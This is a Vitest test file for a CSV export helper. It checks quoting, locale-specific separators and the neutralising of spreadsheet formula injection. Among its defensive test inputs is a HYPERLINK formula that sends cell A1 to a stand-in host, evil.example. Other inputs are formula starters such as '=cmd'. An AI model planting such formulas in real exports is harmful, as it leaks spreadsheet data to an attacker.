import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvLineWith, defuseFormulas } from './csv';

describe('csv', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(csvLine(['a', 'b, c', 'say "hi"', 'two\nlines', ' padded', 3, 0.25, true, null, undefined])).toBe(
      'a,"b, c","say ""hi""","two\nlines"," padded",3,0.25,true,,\r\n',
    );
  });

  it('keeps both scripts as they are', () => {
    expect(csvCell('Шер фондација / Šer fondacija')).toBe('Шер фондација / Šer fondacija');
  });

  it('defuses text that a spreadsheet would run as a formula', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+381 11')).toBe("'+381 11");
    expect(csvCell('-x')).toBe("'-x");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell(-0.5)).toBe('-0.5');
  });

  it('writes other separators and quotes cells that hold them', () => {
    expect(csvLineWith(['a;b', 'c, d', '=1;2', 3, '0,5'], 'semicolon')).toBe('"a;b";"c, d";"\'=1;2";3;"0,5"\r\n'); // csvCell quotes commas; spreadsheets still read a number
    expect(csvLineWith(['a\tb', 'c'], 'tab')).toBe('"a\tb"\tc\r\n');
    expect(csvLineWith(['a', 'b, c'], 'comma')).toBe(csvLine(['a', 'b, c']));
  });

  it('quotes a cell holding any list separator, so Excel with ";" (the Serbian locale) or tab keeps it whole', () => {
    expect(csvCell('Niš; Beograd')).toBe('"Niš; Beograd"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
    expect(csvCell('Niš - Beograd')).toBe('Niš - Beograd');
  });

  it('defuses a formula start after any separator inside a cell, not only at its start', () => {
    const title = 'Kamere u Nišu;=HYPERLINK("http://evil.example/?"&A1,"klik")';
    expect(csvCell(title)).toBe('"Kamere u Nišu;\'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"');
    expect(defuseFormulas('a,+1')).toBe("a,'+1");
    expect(defuseFormulas('a; -1')).toBe("a; '-1");
    expect(defuseFormulas('a\t@SUM(A1)')).toBe("a\t'@SUM(A1)");
    expect(defuseFormulas('red 1\n=cmd')).toBe("red 1\n'=cmd");
    expect(defuseFormulas('a\r=b')).toBe("a\r'=b");
    // A tab or CR opening the cell is defused too; in the middle it is only a separator.
    expect(defuseFormulas('\t=1')).toBe("'\t'=1");
    expect(defuseFormulas('\rx')).toBe("'\rx");
    // Ordinary punctuation is left alone.
    expect(defuseFormulas('Niš - Beograd, 5 kamera; 2+2 = 4 @ SUP')).toBe('Niš - Beograd, 5 kamera; 2+2 = 4 @ SUP');
  });

  it('leaves no piece of a defused cell starting a formula, whichever separator splits it', () => {
    const hostile = ['=1+1', ';=1', ',+1', '\t-1', '\n@x', 'a;=b,+c\t-d\n@e', ' ; =x', '=;=;='];
    for (const text of hostile) {
      const out = defuseFormulas(text);
      for (const piece of out.split(/[,;\t\r\n]/)) expect(piece.trimStart()).not.toMatch(/^[=+\-@]/);
    }
  });
});
